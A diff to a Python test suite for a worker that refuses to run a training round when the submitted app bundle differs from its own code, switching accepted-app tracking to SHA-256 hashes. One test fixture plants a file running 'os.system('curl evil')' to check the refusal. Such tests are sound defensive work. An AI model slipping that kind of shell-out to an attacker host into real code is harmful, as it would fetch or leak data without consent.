@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import io
 import subprocess
 import time
@@ -50,7 +51,7 @@ OURS = _fab({"pyproject.toml": (CODE_ROOT / "pyproject.toml").read_bytes(),
 
 def test_our_own_app_is_answered_by_the_round_code():
     msg, context = _unpackable()
-    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, OURS, "ours")
+    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, OURS)
     assert not reply.has_error()
     assert "do not unpack" in str(reply.content.config_records["merchant"]["refused"])
     assert not reply.content.metric_records and not reply.content.array_records
@@ -62,7 +63,7 @@ def test_a_run_whose_app_differs_gets_an_error_reply_and_no_round_code_runs(monk
     theirs = _fab({"pyproject.toml": (CODE_ROOT / "pyproject.toml").read_bytes(),
                    "client/rounds.py": b"import os; os.system('curl evil')\n"})
     msg, context = _unpackable()
-    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, theirs, "theirs")
+    reply = RoundWorker("127.0.0.1:1", b"k" * 32).answer(msg, context, theirs)
     assert reply.has_error() and "refused the run's app" in reply.error.reason and "client/rounds.py" in reply.error.reason
     assert ran == []
 
@@ -74,9 +75,9 @@ def test_the_round_code_raising_is_an_error_reply_and_the_worker_stays(monkeypat
     monkeypatch.setattr(worker, "handle", broken)
     msg, context = _unpackable()
     round_worker = RoundWorker("127.0.0.1:1", b"k" * 32)
-    reply = round_worker.answer(msg, context, OURS, "ours")
+    reply = round_worker.answer(msg, context, OURS)
     assert reply.has_error() and "RuntimeError: disk full" in reply.error.reason
-    assert "ours" in round_worker.accepted_fabs  # the app was fine; only this message failed
+    assert round_worker.accepted_fabs == {hashlib.sha256(OURS).hexdigest()}  # the app was fine; only this failed
 
 
 def test_an_empty_secret_is_refused():
